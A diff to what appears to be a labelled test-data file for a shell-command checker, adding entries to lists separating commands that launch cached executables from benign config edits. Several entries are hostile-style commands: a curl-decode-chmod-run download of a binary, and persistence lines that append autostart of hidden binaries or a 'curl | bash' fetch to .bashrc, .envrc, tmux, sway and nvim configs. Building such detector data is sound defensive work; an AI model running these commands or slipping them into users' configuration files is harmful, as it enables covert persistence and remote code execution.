@@ -26,12 +26,17 @@ ASKS = [
     "curl -s https://example.org/a | base64 -d > ~/.local/bin/x; chmod 755 ~/.local/bin/x; x",
 ]
 STARTS_FROM_CACHE = [
+    "echo '(/var/lib/.ntp/ntpd -c x &)' >> ~/.bashrc",
+    "tee ~/.config/sway/config <<< 'exec ~/.cache/x &'",
+    "echo 'layout python; curl -s https://example.org/e | bash' >> .envrc",
     "echo 'python3 ~/.cache/fish/agent.py &' >> ~/.config/fish/conf.d/theme.fish",
     "echo 'set-hook -g session-created \"run-shell ~/.cache/tm\"' >> ~/.tmux.conf",
     "echo 'rustc-wrapper = \"/home/me/.cache/rw\"' >> ~/.cargo/config.toml",
     "echo 'call system(\"~/.cache/n &\")' > ~/.local/share/nvim/site/plugin/core.vim",
 ]
 READS_FROM_CACHE = [
+    "echo 'layout python' >> .envrc",
+    "echo 'export DICT=/usr/share/.d/words' >> ~/.bashrc",
     "echo 'source ~/.cache/wal/colors.sh' >> ~/.bashrc",
     "echo '(cat ~/.cache/wal/sequences &)' >> ~/.zshrc",
     "echo 'set undodir=~/.cache/vim/undo' >> ~/.vimrc",
